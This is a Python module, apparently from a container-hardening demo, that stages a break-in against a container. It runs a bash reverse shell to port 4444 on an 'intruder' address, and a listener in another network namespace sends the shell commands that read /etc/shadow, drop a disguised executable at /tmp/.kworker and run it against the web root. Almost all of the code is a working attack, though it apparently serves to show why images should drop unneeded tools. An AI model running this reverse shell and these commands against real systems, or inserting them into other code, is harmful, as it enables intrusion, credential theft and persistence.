"""Somebody who got into a container, and the shell that it opens to him."""

import subprocess
import sys
from collections.abc import Iterator
from contextlib import contextmanager

from demo.commands import shielded
from demo.containers import Container, ContainerError
from demo.network import Attachment

__all__ = ["DROPPED", "PORT", "REVERSE_SHELL", "TOOLS", "break_in"]

PORT = 4444
# Programs that many images have and this service has no use for.
TOOLS = ("/bin/bash", "/bin/chmod")
# bash connects, and starts another bash whose input and output are the connection.
REVERSE_SHELL = f"bash -i >& /dev/tcp/$INTRUDER/{PORT} 0>&1"
DROPPED = "/tmp/.kworker"
COMMANDS = f"""\
cat /etc/shadow
head -c 999999 /bin/ls > {DROPPED}
chmod 755 {DROPPED}
{DROPPED} /var/www/html
exit
"""
# It runs in the intruder's network namespace: waits for the shell, types, prints what comes back.
LISTENER = f"""\
import socket, sys
commands = sys.stdin.buffer.read()
with socket.create_server(("", {PORT})) as server:
    print("listening", flush=True)
    server.settimeout(20)
    shell, _ = server.accept()
with shell:
    shell.settimeout(20)
    shell.sendall(commands)
    while answer := shell.recv(65536):
        sys.stdout.buffer.write(answer)
"""
STOP_SECONDS = 30


def break_in(container: Container, home: Attachment) -> str:
    """Open a shell of *container* to somebody in *home*, who uses it; return what he got to see.

    Raises ContainerError when he got none.
    """
    with _listening(home) as listener:
        result = container.exec("bash", "-c", REVERSE_SHELL, env={"INTRUDER": home.address})
        seen, complaint = listener.communicate(timeout=STOP_SECONDS)
    if listener.returncode:
        raise ContainerError("the intruder got no shell", (result.stderr + complaint).decode())
    return seen.decode(errors="replace")


@contextmanager
def _listening(home: Attachment) -> Iterator[subprocess.Popen[bytes]]:
    words = ("ip", "netns", "exec", home.netns, sys.executable, "-I", "-c", LISTENER)
    with shielded():
        listener = subprocess.Popen(
            words,
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            start_new_session=True,
        )
    with listener:
        try:
            assert listener.stdin is not None
            assert listener.stdout is not None
            listener.stdin.write(COMMANDS.encode())
            listener.stdin.close()
            listener.stdin = None
            listener.stdout.readline()
            yield listener
        finally:
            listener.kill()
